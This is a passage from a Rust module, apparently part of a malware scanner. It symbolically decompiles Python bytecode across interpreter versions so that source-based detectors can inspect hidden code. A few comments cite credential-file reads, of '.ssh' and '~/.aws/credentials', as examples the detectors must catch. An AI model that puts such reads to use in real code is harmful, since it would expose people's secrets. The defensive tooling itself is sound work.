//! Renders a code object read by [`crate::marshal`] back into Python-like source, so that the
//! detectors that read source (process starts, network calls, exec of decoded data, string
//! classifiers) judge hidden bytecode exactly as they judge a file. Nothing is executed: the
//! bytecode is followed symbolically, instruction by instruction, with a stack of expressions.
//!
//! The rendering is deliberately partial. Imports, assignments, attribute chains, calls with
//! their arguments, `+`, subscripts, f-strings, functions and classes come out as statements;
//! control flow does not (an instruction the renderer does not model empties its stack, after
//! writing out any call still on it, so no call is lost). String and bytes constants that no
//! statement used are written out at the end of their function, so that literal checks see
//! every one of them. Lines follow the code object's line table where the format is known, so
//! evidence lines match the hidden program's own.

use std::cell::Cell;
use std::collections::HashSet;
use std::fmt::Write as _;
use std::rc::Rc;

use crate::marshal::{Code, Layout, Object, SeqKind, Version};

/// Bounds of one rendering.
#[derive(Clone, Copy, Debug)]
pub struct RenderLimits {
    /// Bytes of output; the rendering stops there.
    pub max_bytes: usize,
    /// Instructions followed, over all code objects.
    pub max_instructions: usize,
    /// Functions and classes nested inside each other.
    pub max_depth: u32,
    /// Lines of output: padding to the code's own line numbers stops there.
    pub max_lines: u32,
}

impl Default for RenderLimits {
    fn default() -> Self {
        RenderLimits {
            max_bytes: 4 << 20,
            max_instructions: 4 << 20,
            max_depth: 32,
            max_lines: 1 << 20,
        }
    }
}

/// Which instruction set the bytecode uses.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Dialect {
    /// Python 2.7: one byte per instruction, two more for an argument.
    Py2,
    /// Python 2.3–2.6: as 2.7 before `BUILD_SET` shifted the opcodes from 104 on.
    Py26,
    /// Python 3.0–3.5: the same encoding, Python 3 opcodes.
    Py30,
    /// Python 3.6–3.10: two bytes per instruction.
    Py36,
    /// Python 3.11: inline caches, `PRECALL`/`CALL`.
    Py311,
    /// Python 3.12: `LOAD_ATTR` carries the method bit, `RETURN_CONST`.
    Py312,
    /// Python 3.13: every opcode renumbered, `CALL_KW`, `SET_FUNCTION_ATTRIBUTE`.
    Py313,
    /// A version whose opcodes are not modelled (3.14+): only names and constants are shown.
    Unknown,
}

/// The instruction set of a code object: from the `.pyc` version when known, else guessed from
/// the layout and the bytecode itself.
pub fn dialect_of(code: &Code, version: Option<Version>) -> Dialect {
    if let Some(version) = version {
        return match version {
            (2, minor) if minor < 7 => Dialect::Py26,
            (major, _) if major < 3 => Dialect::Py2,
            (3, minor) if minor < 6 => Dialect::Py30,
            (3, minor) if minor < 11 => Dialect::Py36,
            (3, 11) => Dialect::Py311,
            (3, 12) => Dialect::Py312,
            (3, 13) => Dialect::Py313,
            _ => Dialect::Unknown,
        };
    }
    let bytecode = &code.bytecode;
    match code.layout {
        Layout::Py2 => Dialect::Py2,
        Layout::Py38 => Dialect::Py36,
        Layout::Py30 => {
            // Wordcode ends `RETURN_VALUE 0` on an even offset; the older encoding ends with a
            // lone `RETURN_VALUE` after a three-byte `LOAD_CONST`.
            let n = bytecode.len();
            if n.is_multiple_of(2) && n >= 2 && bytecode.get(n - 2) == Some(&83) {
                Dialect::Py36
            } else {
                Dialect::Py30
            }
        }
        Layout::Py311 => {
            let ops: Vec<u8> = bytecode
                .chunks_exact(2)
                .map(|p| p.first().copied().unwrap_or(0))
                .collect();
            let first = ops.iter().copied().find(|&op| !matches!(op, 0 | 135 | 149));
            // RESUME is 149 in 3.13 (COPY_FREE_VARS in 3.11 and 3.12, which is always followed
            // by their RESUME, 151).
            if ops.first() == Some(&149) && first.is_some_and(|op| op != 151) {
                return Dialect::Py313;
            }
            if ops.contains(&166) {
                Dialect::Py311
            } else if first == Some(151) {
                // RESUME is 151 in both; 3.11 calls always go through PRECALL (166).
                if ops.contains(&121) || !ops.contains(&171) {
                    Dialect::Py312
                } else {
                    Dialect::Py311
                }
            } else {
                Dialect::Unknown
            }
        }
    }
}

/// What one instruction does, as far as the renderer models it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Op {
    Nop,
    PopTop,
    LoadConst,
    LoadName,
    /// `LOAD_GLOBAL`: from 3.11 the name index is shifted past a push-NULL bit.
    LoadGlobal,
    LoadFast,
    LoadDeref,
    LoadAttr,
    StoreName,
    StoreFast,
    StoreDeref,
    StoreAttr,
    ImportName,
    ImportFrom,
    ImportStar,
    /// Python 2–3.10: argument is the count (Python 2/3.0–3.5 also keyword pairs).
    CallFunction,
    /// Python 3.6–3.10: keyword names are a tuple on the stack.
    CallFunctionKw,
    /// `f(*args, **kwargs)`.
    CallFunctionEx,
    /// Python 3.11+: `CALL n`, keyword names from the last `KW_NAMES`.
    Call,
    KwNames,
    MakeFunction,
    /// Python 2 `MAKE_CLOSURE`: a closure tuple above the code.
    MakeClosure,
    LoadBuildClass,
    BuildTuple,
    BuildList,
    BuildString,
    FormatValue,
    BinaryAdd,
    /// `BINARY_MODULO` (before 3.11): `'%s' % x`.
    BinaryModulo,
    /// `BINARY_TRUE_DIVIDE` (3.x before 3.11): `Path.home() / '.ssh'`.
    BinaryTrueDivide,
    /// Python 3.11+ `BINARY_OP`: argument 0 and 13 are `+` and `+=`.
    BinaryOperator,
    BinarySubscr,
    /// `LIST_EXTEND i`: 3.9+ builds constant lists as an empty list extended by a tuple.
    ListExtend,
    /// `LIST_TO_TUPLE`.
    ListToTuple,
    ReturnValue,
    ReturnConst,
    /// Python 2 `exec code in globals, locals`.
    ExecStmt,
    /// Python 2 `print x`.
    PrintItem,
    /// `DUP_TOP` (before 3.11) and `COPY n` (3.11+): Python 2's `exec code` duplicates `None`.
    Copy,
    /// 3.13 `CALL_KW n`: keyword names are a tuple on the stack.
    CallKw,
    /// 3.13: `SET_FUNCTION_ATTRIBUTE` pops a default/closure under the function.
    SetFunctionAttribute,
    /// 3.13 `FORMAT_SIMPLE`: an f-string field.
    FormatSimple,
    /// 3.13 `FORMAT_WITH_SPEC`: an f-string field with a format spec.
    FormatWithSpec,
    /// 3.12+ `CALL_INTRINSIC_1`: `import *` and list-to-tuple among others.
    CallIntrinsic1,
    /// 3.13 superinstruction: two locals packed in one argument.
    LoadFastLoadFast,
    /// 3.13 superinstruction: two stores.
    StoreFastStoreFast,
    /// 3.13 superinstruction: a store then a load.
    StoreFastLoadFast,
    /// Anything else: the stack is no longer known.
    Other,
}

fn op_of(dialect: Dialect, opcode: u8) -> Op {
    use Op::*;
    let common = |opcode: u8| match opcode {
        1 => PopTop,
        25 => BinarySubscr,
        83 => ReturnValue,
        84 => ImportStar,
        90 => StoreName,
        95 => StoreAttr,
        97 => StoreName,
        100 => LoadConst,
        101 => LoadName,
        102 => BuildTuple,
        103 => BuildList,
        106 => LoadAttr,
        108 => ImportName,
        109 => ImportFrom,
        116 => LoadGlobal,
        124 => LoadFast,
        125 => StoreFast,
        132 => MakeFunction,
        _ => Other,
    };
    match dialect {
        Dialect::Py26 => match opcode {
            105 => LoadAttr,
            106 => Other,
            107 => ImportName,
            108 => ImportFrom,
            other => op_of(Dialect::Py2, other),
        },
        Dialect::Py2 | Dialect::Py30 => match opcode {
            4 => Copy,
            9 => Nop,
            22 => BinaryModulo,
            23 | 55 => BinaryAdd,
            27 if dialect == Dialect::Py30 => BinaryTrueDivide,
            71 if dialect == Dialect::Py2 => PrintItem,
            71 => LoadBuildClass,
            85 if dialect == Dialect::Py2 => ExecStmt,
            131 => CallFunction,
            134 => MakeClosure,
            135 => Nop,
            136 => LoadDeref,
            137 => StoreDeref,
            other => common(other),
        },
        Dialect::Py36 => match opcode {
            4 => Copy,
            9 => Nop,
            22 => BinaryModulo,
            23 | 55 => BinaryAdd,
            27 => BinaryTrueDivide,
            71 => LoadBuildClass,
            131 | 161 => CallFunction,
            135 => Nop,
            136 => LoadDeref,
            137 => StoreDeref,
            141 => CallFunctionKw,
            142 => CallFunctionEx,
            155 => FormatValue,
            157 => BuildString,
            160 => LoadAttr,
            162 => ListExtend,
            82 => ListToTuple,
            other => common(other),
        },
        Dialect::Py311 | Dialect::Py312 => match opcode {
            0 | 2 | 9 | 135 | 136 | 149 | 151 | 166 => Nop,
            71 => LoadBuildClass,
            120 => Copy,
            121 if dialect == Dialect::Py312 => ReturnConst,
            122 => BinaryOperator,
            137 => LoadDeref,
            138 => StoreDeref,
            142 => CallFunctionEx,
            155 => FormatValue,
            157 => BuildString,
            160 if dialect == Dialect::Py311 => LoadAttr,
            127 if dialect == Dialect::Py312 => LoadFast,
            171 => Call,
            172 => KwNames,
            173 if dialect == Dialect::Py312 => CallIntrinsic1,
            162 => ListExtend,
            82 if dialect == Dialect::Py311 => ListToTuple,
            other => common(other),
        },
        Dialect::Py313 => match opcode {
            0 | 30 | 34 | 40 | 60 | 62 | 94 | 149 => Nop,
            5 => BinarySubscr,
            14 => FormatSimple,
            15 => FormatWithSpec,
            24 => LoadBuildClass,
            26 => MakeFunction,
            32 => PopTop,
            36 => ReturnValue,
            45 => BinaryOperator,
            47 => BuildList,
            51 => BuildString,
            52 => BuildTuple,
            53 => Call,
            54 => CallFunctionEx,
            55 => CallIntrinsic1,
            57 => CallKw,
            61 => Copy,
            74 => ImportFrom,
            75 => ImportName,
            81 => ListExtend,
            82 => LoadAttr,
            83 => LoadConst,
            84 => LoadDeref,
            85..=87 => LoadFast,
            88 => LoadFastLoadFast,
            91 => LoadGlobal,
            92 => LoadName,
            103 => ReturnConst,
            106 => SetFunctionAttribute,
            108 => StoreAttr,
            109 => StoreDeref,
            110 => StoreFast,
            111 => StoreFastLoadFast,
            112 => StoreFastStoreFast,
            113 | 114 => StoreName,
            _ => Other,
        },
        Dialect::Unknown => Other,
    }
}

/// `EXTENDED_ARG` of a wordcode instruction set.
fn extended_arg(dialect: Dialect) -> u8 {
    if dialect == Dialect::Py313 { 71 } else { 144 }
}

/// One stack entry of the symbolic run.
#[derive(Clone, Debug)]
enum Item {
    /// A constant, rendered when used.
    Const(usize),
    /// An expression already rendered.
    Expr(String),
    /// A call, which is a statement of its own when its value is dropped.
    Call(String),
    /// `IMPORT_NAME`: the module and whether names are imported from it.
    Import(String, bool),
    /// `IMPORT_FROM`: a name imported from a module.
    From(String, String),
    /// A function made from a nested code object.
    Function(Rc<Code>),
    /// `__build_class__`.
    BuildClass,
    /// A class built from a nested code object, with its bases.
    Class(Rc<Code>, String),
    /// An unknown value.
    Unknown,
}

/// Renders `code` (a module's, usually) as Python-like source. Always returns something:
/// bounds cut the output short, and an unknown instruction set yields the names and
/// constants alone.
pub fn render(code: &Rc<Code>, version: Option<Version>, limits: RenderLimits) -> String {
    let dialect = dialect_of(code, version);
    let mut out = Output {
        text: String::new(),
        work: Work {
            left: Rc::new(Cell::new(
                limits.max_bytes.saturating_mul(8).saturating_add(16 << 20),
            )),
            per_literal: limits.max_bytes,
        },
        line: 1,
        limits,
        instructions: 0,
        joinable: None,
    };
    if dialect == Dialect::Unknown {
        render_names_only(code, &mut out, 0);
    } else {
        render_body(code, dialect, &mut out, 0, true);
    }
    out.text
}

/// Reads `data` as a marshalled code object, or as a whole `.pyc` file when `pyc` is true, and
/// renders it within `max_bytes` of output; `None` when it is not one.
pub fn unmarshal_to_source(data: &[u8], pyc: bool, max_bytes: usize) -> Option<String> {
    let limits = crate::marshal::Limits {
        max_string_bytes: max_bytes.max(1 << 16),
        ..crate::marshal::Limits::default()
    };
    let (code, version) = if pyc {
        let pyc = crate::marshal::read_pyc(data, limits).ok()?;
        (pyc.code, pyc.version)
    } else {
        (crate::marshal::read_code(data, limits).ok()?.0, None)
    };
    let limits = RenderLimits {
        max_bytes: max_bytes.max(1),
        ..RenderLimits::default()
    };
    Some(render(&code, version, limits))
}

/// Bytes of text the renderer may still build, over all expressions and constants: expressions
/// grow one instruction at a time (`a + b + c ...`) and constants may be used again and again
/// or share parts (references), so without this bound the work could be quadratic or worse in
/// the input while the output stays small.
#[derive(Clone)]
struct Work {
    left: Rc<Cell<usize>>,
    /// Largest literal rendered: no statement is written longer than the output bound.
    per_literal: usize,
}

impl Work {
    fn take(&self, n: usize) -> bool {
        let left = self.left.get();
        if n <= left {
            self.left.set(left - n);
            true
        } else {
            self.left.set(0);
            false
        }
    }

    /// `object` as a Python literal, charged to the budget.
    fn literal(&self, object: &Object) -> String {
        let budget = Cell::new(self.left.get().min(self.per_literal));
        let start = budget.get();
        let text = literal(object, 0, &budget);
        self.take(start - budget.get());
        text
    }
}

struct Output {
    text: String,
    work: Work,
    line: u32,
    limits: RenderLimits,
    instructions: usize,
    /// Indent of the last line when it is a simple statement another can join with `;`.
    joinable: Option<u32>,
}

impl Output {
    fn full(&self) -> bool {
        self.text.len() >= self.limits.max_bytes
    }

    /// Writes one statement at `indent`, on line `at` when the output has not passed it yet.
    /// Simple statements of one source line share it, joined by `;`, so that the lines after
    /// them keep their numbers.
    fn emit(&mut self, indent: u32, at: Option<u32>, statement: &str) {
        if self.full() {
            return;
        }
        let header = statement.ends_with(':')
            && (statement.starts_with("def ") || statement.starts_with("class "));
        if !header
            && self.joinable == Some(indent)
            && at.is_some_and(|at| at + 1 == self.line)
            && self.text.ends_with('\n')
        {
            self.text.pop();
            self.text.push_str("; ");
            let room = self.limits.max_bytes.saturating_sub(self.text.len());
            self.text
                .push_str(crate::text::shorten(statement, room.max(1)).as_str());
            self.text.push('\n');
            return;
        }
        self.joinable = (!header).then_some(indent);
        if let Some(at) = at {
            let at = at.min(self.limits.max_lines);
            while self.line < at {
                self.text.push('\n');
                self.line += 1;
            }
        }
        for _ in 0..indent {
            self.text.push_str("    ");
        }
        let room = self.limits.max_bytes.saturating_sub(self.text.len());
        self.text
            .push_str(crate::text::shorten(statement, room.max(1)).as_str());
        self.text.push('\n');
        self.line += 1;
    }
}

/// For instruction sets that are not modelled: imports of names that look like modules are not
/// guessed; the names are listed and every string constant written out.
fn render_names_only(code: &Rc<Code>, out: &mut Output, depth: u32) {
    let names: Vec<&str> = code.names.iter().map(|n| &**n).collect();
    if !names.is_empty() {
        out.emit(depth, None, &format!("# names used: {}", names.join(", ")));
    }
    for (index, constant) in code.consts.iter().enumerate() {
        match constant {
            Object::Str(_) | Object::Bytes(_) => {
                let text = render_const(&code.consts, index, &out.work);
                out.emit(depth, None, &text);
            }
            Object::Code(inner) if depth < out.limits.max_depth => {
                out.emit(
                    depth,
                    Some(inner.first_line),
                    &format!("def {}():", identifier(&inner.name)),
                );
                render_names_only(inner, out, depth + 1);
                out.emit(depth + 1, None, "pass");
            }
            _ => {}
        }
    }
}

struct Body<'c> {
    code: &'c Rc<Code>,
    dialect: Dialect,
    depth: u32,
    module: bool,
    stack: Vec<Item>,
    used: Vec<bool>,
    rendered: HashSet<*const Code>,
    work: Work,
    kw_names: Option<usize>,
}

fn render_body(code: &Rc<Code>, dialect: Dialect, out: &mut Output, depth: u32, module: bool) {
    let lines = line_starts(code, dialect);
    let mut body = Body {
        code,
        dialect,
        depth,
        module,
        stack: Vec::new(),
        used: vec![false; code.consts.len()],
        rendered: HashSet::new(),
        work: out.work.clone(),
        kw_names: None,
    };
    let start_len = out.text.len();
    let mut line = code.first_line;
    let mut next_line = 0usize;
    for (offset, opcode, arg) in instructions(&code.bytecode, dialect) {
        out.instructions += 1;
        if out.instructions > out.limits.max_instructions || out.full() {
            break;
        }
        // Both run in offset order: one cursor keeps this linear in the code's size.
        while let Some(&(start, l)) = lines.get(next_line) {
            if start > offset {
                break;
            }
            line = l;
            next_line += 1;
        }
        body.step(op_of(dialect, opcode), arg, line, out);
    }
    body.flush(line, out);
    // Constants no statement used: literal checks must see them anyway.
    for index in 0..code.consts.len() {
        let used = body.used.get(index) == Some(&true);
        match code.consts.get(index) {
            Some(Object::Str(s)) if !used && !s.is_empty() => {
                let text = render_const(&code.consts, index, &out.work);
                out.emit(depth, None, &text);
            }
            Some(Object::Bytes(b)) if !used && !b.is_empty() => {
                let text = render_const(&code.consts, index, &out.work);
                out.emit(depth, None, &text);
            }
            Some(Object::Code(inner)) if !body.rendered.contains(&Rc::as_ptr(inner)) => {
                body.define(inner.clone(), &identifier(&inner.name), None, out);
            }
            _ => {}
        }
    }
    if !module && out.text.len() == start_len {
        out.emit(depth, None, "pass");
    }
}

impl Body<'_> {
    fn pop(&mut self) -> Item {
        self.stack.pop().unwrap_or(Item::Unknown)
    }

    fn pop_n(&mut self, n: usize) -> Vec<Item> {
        let mut items: Vec<Item> = (0..n.min(256)).map(|_| self.pop()).collect();
        items.reverse();
        items
    }

    fn push(&mut self, item: Item) {
        // A stack this deep is not one the compiler wrote: forgetting it keeps it bounded.
        if self.stack.len() >= 4096 {
            self.stack.clear();
        }
        let item = match item {
            Item::Expr(text) | Item::Call(text) if !self.work.take(text.len()) => Item::Unknown,
            other => other,
        };
        self.stack.push(item);
    }

    fn name(&self, index: usize) -> String {
        self.code
            .names
            .get(index)
            .map_or_else(|| "_".to_owned(), |n| n.to_string())
    }

    fn local(&self, index: usize) -> String {
        self.code
            .varnames
            .get(index)
            .or_else(|| {
                self.code
                    .closure_names
                    .get(index.saturating_sub(self.code.varnames.len()))
            })
            .map_or_else(|| "_".to_owned(), |n| n.to_string())
    }

    fn deref(&self, index: usize) -> String {
        if self.modern() {
            return self.local(index);
        }
        self.code
            .closure_names
            .get(index)
            .map_or_else(|| "_".to_owned(), |n| n.to_string())
    }

    fn text(&mut self, item: &Item) -> String {
        match item {
            Item::Const(index) => {
                if let Some(slot) = self.used.get_mut(*index) {
                    *slot = true;
                }
                render_const(&self.code.consts, *index, &self.work)
            }
            Item::Expr(text) | Item::Call(text) => text.clone(),
            Item::Import(module, _) => module.clone(),
            Item::From(module, name) => format!("{module}.{name}"),
            Item::Function(code) => identifier(&code.name),
            Item::Class(code, _) => identifier(&code.name),
            Item::BuildClass => "__build_class__".to_owned(),
            Item::Unknown => "_".to_owned(),
        }
    }

    /// Writes out the calls still on the stack, whose values the next instruction consumes
    /// in a way the renderer does not follow, and forgets the stack.
    fn flush(&mut self, line: u32, out: &mut Output) {
        let items = std::mem::take(&mut self.stack);
        for item in items {
            match item {
                Item::Call(text) => out.emit(self.depth, Some(line), &text),
                // A list being iterated, a comparison's operand: literals and calls inside
                // still matter (`for p in [home / '.ssh', '~/.aws/credentials']:`).
                Item::Expr(text) if text.contains(['(', '[', '\'']) => {
                    out.emit(self.depth, Some(line), &text);
                }
                _ => {}
            }
        }
    }

    /// A call of `callee` with `items` (then `extra`, already rendered, for keywords).
    fn call(&mut self, callee: Item, items: Vec<Item>, keys: &[String]) -> Item {
        if let (Item::BuildClass, Some(Item::Function(code))) = (&callee, items.first()) {
            // __build_class__(function, name, *bases)
            let code = code.clone();
            if let Some(name) = items.get(1) {
                self.text(name);
            }
            let bases: Vec<String> = items.iter().skip(2).map(|i| self.text(i)).collect();
            return Item::Class(code, bases.join(", "));
        }
        let mut args: Vec<String> = items.iter().map(|i| self.text(i)).collect();
        let positional = args.len().saturating_sub(keys.len());
        for (arg, key) in args.iter_mut().skip(positional).zip(keys.iter()) {
            *arg = format!("{key}={arg}");
        }
        // `with` blocks end by calling their exit function with three Nones; no callee the
        // renderer can name is worth a statement.
        if matches!(callee, Item::Unknown)
            || matches!(&callee, Item::Const(index) if matches!(self.code.consts.get(*index), Some(Object::None)))
        {
            return Item::Unknown;
        }
        let callee = self.text(&callee);
        Item::Call(format!("{callee}({})", args.join(", ")))
    }

    fn define(&mut self, code: Rc<Code>, name: &str, line: Option<u32>, out: &mut Output) {
        self.rendered.insert(Rc::as_ptr(&code));
        if self.depth >= out.limits.max_depth {
            return;
        }
        let params: Vec<String> = code
            .varnames
            .iter()
            .take(usize::try_from(code.argcount).unwrap_or(0).min(64))
            .map(|p| identifier(p))
            .collect();
        out.emit(
            self.depth,
            line.or(Some(code.first_line)),
            &format!("def {name}({}):", params.join(", ")),
        );
        render_body(&code, self.dialect, out, self.depth + 1, false);
    }

    fn store(&mut self, target: String, value: Item, line: u32, out: &mut Output) {
        let depth = self.depth;
        match value {
            Item::Import(module, false) => {
                let top = module.split('.').next().unwrap_or(&module);
                if top == target {
                    out.emit(depth, Some(line), &format!("import {module}"));
                } else {
                    out.emit(depth, Some(line), &format!("import {module} as {target}"));
                }
            }
            Item::From(module, name) => {
                // The module stays on the stack until the last name is stored.
                if name == target {
                    out.emit(depth, Some(line), &format!("from {module} import {name}"));
                } else {
                    out.emit(
                        depth,
                        Some(line),
                        &format!("from {module} import {name} as {target}"),
                    );
                }
            }
            Item::Function(code) => {
                let name = identifier(&target);
                self.define(code, &name, Some(line), out);
            }
            Item::Class(code, bases) => {
                self.rendered.insert(Rc::as_ptr(&code));
                if depth < out.limits.max_depth {
                    out.emit(
                        depth,
                        Some(line),
                        &format!("class {}({bases}):", identifier(&target)),
                    );
                    render_body(&code, self.dialect, out, depth + 1, false);
                }
            }
            // The compiler's own class-body bookkeeping says nothing and would push lines down.
            Item::Expr(value) if target == "__module__" && value == "__name__" => {}
            Item::Const(index) if target == "__qualname__" => {
                if let Some(slot) = self.used.get_mut(index) {
                    *slot = true;
                }
            }
            other => {
                let value = self.text(&other);
                out.emit(depth, Some(line), &format!("{target} = {value}"));
            }
        }
    }

    fn step(&mut self, op: Op, arg: usize, line: u32, out: &mut Output) {
        match op {
            Op::Nop => {}
            Op::LoadConst => self.push(Item::Const(arg)),
            Op::LoadName => {
                let name = self.name(arg);
                self.push(Item::Expr(name));
            }
            Op::LoadGlobal => {
                let index = if self.modern() { arg >> 1 } else { arg };
                let name = self.name(index);
                self.push(Item::Expr(name));
            }
            Op::LoadFast => {
                let name = self.local(arg);
                self.push(Item::Expr(name));
            }
            Op::LoadDeref => {
                let name = self.deref(arg);
                self.push(Item::Expr(name));
            }
            Op::LoadAttr => {
                let index = if matches!(self.dialect, Dialect::Py312 | Dialect::Py313) {
                    arg >> 1
                } else {
                    arg
                };
                let attr = self.name(index);
                let base = self.pop();
                let base = self.text(&base);
                self.push(Item::Expr(format!("{base}.{attr}")));
            }
            Op::StoreName | Op::StoreFast | Op::StoreDeref => {
                let target = match op {
                    Op::StoreName => self.name(arg),
                    Op::StoreFast => self.local(arg),
                    _ => self.deref(arg),
                };
                let value = self.pop();
                self.store(target, value, line, out);
            }
            Op::StoreAttr => {
                let attr = self.name(arg);
                let object = self.pop();
                let value = self.pop();
                let object = self.text(&object);
                let value = self.text(&value);
                out.emit(
                    self.depth,
                    Some(line),
                    &format!("{object}.{attr} = {value}"),
                );
            }
            Op::ImportName => {
                let module = self.name(arg);
                let fromlist = self.pop();
                let _level = self.pop();
                let has_names = match fromlist {
                    Item::Const(index) => {
                        if let Some(slot) = self.used.get_mut(index) {
                            *slot = true;
                        }
                        !matches!(self.code.consts.get(index), Some(Object::None) | None)
                    }
                    _ => false,
                };
                self.push(Item::Import(module, has_names));
            }
            Op::ImportFrom => {
                let name = self.name(arg);
                let module = match self.stack.last() {
                    Some(Item::Import(module, _)) => module.clone(),
                    _ => "_".to_owned(),
                };
                self.push(Item::From(module, name));
            }
            Op::ImportStar => {
                if let Item::Import(module, _) = self.pop() {
                    out.emit(self.depth, Some(line), &format!("from {module} import *"));
                }
            }
            Op::CallFunction => {
                let (positional, keywords) = match self.dialect {
                    Dialect::Py2 | Dialect::Py26 | Dialect::Py30 => (arg & 0xff, (arg >> 8) & 0xff),
                    _ => (arg, 0),
                };
                let mut pairs = Vec::new();
                let mut keys = Vec::new();
                for _ in 0..keywords {
                    let value = self.pop();
                    let key = self.pop();
                    pairs.push(value);
                    keys.push(match key {
                        Item::Const(index) => {
                            if let Some(slot) = self.used.get_mut(index) {
                                *slot = true;
                            }
                            self.code
                                .consts
                                .get(index)
                                .and_then(Object::as_name)
                                .map_or_else(|| "_".to_owned(), identifier)
                        }
                        _ => "_".to_owned(),
                    });
                }
                pairs.reverse();
                keys.reverse();
                let mut items = self.pop_n(positional);
                items.extend(pairs);
                let callee = self.pop();
                let call = self.call(callee, items, &keys);
                self.push(call);
            }
            Op::CallFunctionKw => {
                let names = self.pop();
                let keys: Vec<String> = match names {
                    Item::Const(index) => {
                        if let Some(slot) = self.used.get_mut(index) {
                            *slot = true;
                        }
                        self.const_names(index)
                    }
                    _ => Vec::new(),
                };
                self.call_with_keywords(arg, keys);
            }
            Op::KwNames => {
                if let Some(slot) = self.used.get_mut(arg) {
                    *slot = true;
                }
                self.kw_names = Some(arg);
            }
            Op::Call => {
                let keys = self
                    .kw_names
                    .take()
                    .map(|index| self.const_names(index))
                    .unwrap_or_default();
                self.call_with_keywords(arg, keys);
            }
            Op::CallFunctionEx => {
                let kwargs = (arg & 1 == 1).then(|| self.pop());
                let args = self.pop();
                let mut parts = vec![format!("*{}", self.text(&args))];
                if let Some(kwargs) = kwargs {
                    parts.push(format!("**{}", self.text(&kwargs)));
                }
                let callee = self.pop();
                let callee = self.text(&callee);
                self.push(Item::Call(format!("{callee}({})", parts.join(", "))));
            }
            Op::MakeFunction | Op::MakeClosure => {
                // Above the code: the qualified name (3.3–3.10); below it: defaults, closure.
                let mut code = None;
                for _ in 0..3 {
                    match self.pop() {
                        Item::Const(index) => {
                            if let Some(Object::Code(inner)) = self.code.consts.get(index) {
                                if let Some(slot) = self.used.get_mut(index) {
                                    *slot = true;
                                }
                                code = Some(inner.clone());
                                break;
                            }
                        }
                        Item::Unknown => break,
                        _ => {}
                    }
                }
                let extras = match self.dialect {
                    // 3.13 sets defaults and closures afterwards, with SET_FUNCTION_ATTRIBUTE.
                    Dialect::Py313 => 0,
                    Dialect::Py36 | Dialect::Py311 | Dialect::Py312 => (arg & 0x0f).count_ones(),
                    _ => u32::try_from(arg & 0xff).unwrap_or(0) + u32::from(op == Op::MakeClosure),
                };
                for _ in 0..extras {
                    self.pop();
                }
                match code {
                    Some(code) => self.push(Item::Function(code)),
                    None => self.push(Item::Unknown),
                }
            }
            Op::LoadBuildClass => self.push(Item::BuildClass),
            Op::Copy => {
                let depth = if self.modern() { arg.max(1) } else { 1 };
                let item = self
                    .stack
                    .len()
                    .checked_sub(depth)
                    .and_then(|at| self.stack.get(at))
                    .cloned()
                    .unwrap_or(Item::Unknown);
                // A copied call is one call: only the original is written out.
                let item = match item {
                    Item::Call(text) => Item::Expr(text),
                    other => other,
                };
                self.push(item);
            }
            Op::BuildTuple | Op::BuildList => {
                let items = self.pop_n(arg);
                let parts: Vec<String> = items.iter().map(|i| self.text(i)).collect();
                let text = if op == Op::BuildList {
                    format!("[{}]", parts.join(", "))
                } else if parts.len() == 1 {
                    format!("({},)", parts.join(""))
                } else {
                    format!("({})", parts.join(", "))
                };
                self.push(Item::Expr(text));
            }
            Op::BuildString => {
                let items = self.pop_n(arg);
                let parts: Vec<String> = items.iter().map(|i| self.text(i)).collect();
                self.push(Item::Expr(format!("({})", parts.join(" + "))));
            }
            Op::FormatValue => {
                if arg & 0x04 != 0 {
                    self.pop();
                }
                let value = self.pop();
                let value = self.text(&value);
                self.push(Item::Expr(format!("str({value})")));
            }
            Op::BinaryAdd => self.binary("+"),
            Op::BinaryOperator if matches!(arg, 0 | 13) => self.binary("+"),
            Op::BinaryOperator if matches!(arg, 6 | 19) => self.binary("%"),
            Op::BinaryOperator if matches!(arg, 11 | 24) => self.binary("/"),
            Op::BinaryModulo => self.binary("%"),
            Op::BinaryTrueDivide => self.binary("/"),
            Op::BinarySubscr => {
                let index = self.pop();
                let base = self.pop();
                let index = self.text(&index);
                let base = self.text(&base);
                self.push(Item::Expr(format!("{base}[{index}]")));
            }
            Op::ListExtend => {
                let value = self.pop();
                let at = self.stack.len().checked_sub(arg.max(1));
                let constant = match value {
                    Item::Const(index) => match self.code.consts.get(index) {
                        Some(Object::Seq(_, items)) => {
                            if let Some(slot) = self.used.get_mut(index) {
                                *slot = true;
                            }
                            let parts: Vec<String> =
                                items.iter().map(|i| self.work.literal(i)).collect();
                            Some(parts.join(", "))
                        }
                        _ => None,
                    },
                    _ => None,
                };
                let value = constant.unwrap_or_else(|| format!("*{}", self.text(&value)));
                let work = self.work.clone();
                if let Some(target) = at.and_then(|at| self.stack.get_mut(at)) {
                    let extended = match target {
                        Item::Expr(list) if list == "[]" => Some(format!("[{value}]")),
                        Item::Expr(list) if list.ends_with(']') => {
                            let head = list.trim_end_matches(']');
                            Some(format!("{head}, {value}]"))
                        }
                        _ => None,
                    };
                    *target = match extended {
                        Some(text) if work.take(text.len()) => Item::Expr(text),
                        _ => Item::Unknown,
                    };
                }
            }
            Op::ListToTuple => {
                let value = self.pop();
                let value = self.text(&value);
                self.push(Item::Expr(format!("tuple({value})")));
            }
            Op::PopTop => match self.pop() {
                Item::Call(text) => out.emit(self.depth, Some(line), &text),
                Item::Const(index)
                    if matches!(
                        self.code.consts.get(index),
                        Some(Object::Str(_) | Object::Bytes(_))
                    ) =>
                {
                    let text = self.text(&Item::Const(index));
                    out.emit(self.depth, Some(line), &text);
                }
                _ => {}
            },
            Op::ReturnValue => {
                let value = self.pop();
                self.ret(value, line, out);
            }
            Op::ReturnConst => self.ret(Item::Const(arg), line, out),
            Op::ExecStmt => {
                let _locals = self.pop();
                let _globals = self.pop();
                let code = self.pop();
                let code = self.text(&code);
                out.emit(self.depth, Some(line), &format!("exec({code})"));
            }
            Op::PrintItem => {
                let value = self.pop();
                let value = self.text(&value);
                out.emit(self.depth, Some(line), &format!("print({value})"));
            }
            Op::CallKw => {
                let names = self.pop();
                let keys = match names {
                    Item::Const(index) => {
                        if let Some(slot) = self.used.get_mut(index) {
                            *slot = true;
                        }
                        self.const_names(index)
                    }
                    _ => Vec::new(),
                };
                self.call_with_keywords(arg, keys);
            }
            Op::SetFunctionAttribute => {
                let function = self.pop();
                let _attribute = self.pop();
                self.push(function);
            }
            Op::FormatSimple => {
                let value = self.pop();
                let value = self.text(&value);
                self.push(Item::Expr(format!("str({value})")));
            }
            Op::FormatWithSpec => {
                let _spec = self.pop();
                let value = self.pop();
                let value = self.text(&value);
                self.push(Item::Expr(format!("str({value})")));
            }
